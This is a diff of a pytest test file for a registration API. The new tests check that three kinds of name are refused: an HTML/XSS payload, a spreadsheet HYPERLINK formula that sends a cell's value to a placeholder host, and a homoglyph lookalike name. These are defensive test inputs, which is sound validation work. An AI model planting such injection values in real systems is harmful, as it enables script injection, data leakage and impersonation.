@@ -347,8 +347,19 @@ class TestRequestShape:
         )
         assert (reply.status, reply.body["code"]) == (422, "INVALID_NAME")
 
-    def test_html_in_a_name_comes_back_as_text_in_json_only(self, town):
-        name = '<img src=x onerror="alert(1)"> Lê'
+    @pytest.mark.parametrize(
+        "name", ['<img src=x onerror="alert(1)"> Lê', '=HYPERLINK("http://x"&D2,"x")', "Nguy\u0435̃n Văn An"]
+    )
+    def test_markup_formula_and_lookalike_names_are_refused(self, town, name):
+        reply = town.http.post(
+            "/api/register",
+            {"full_name": name, "phone": "0912000403", "unit_id": "so-tttt", "password": PASSWORD, "consent": True},
+        )
+        assert (reply.status, reply.body["code"]) == (422, "INVALID_NAME")
+        assert "Họ và tên" in reply.body["message"]
+
+    def test_a_name_with_an_apostrophe_comes_back_as_text_in_json_only(self, town):
+        name = "H'Hen Niê"
         session = town.contestant("0912000402", name)
         me = town.http.get("/api/me", token=session)
         assert me.headers["content-type"].startswith("application/json")
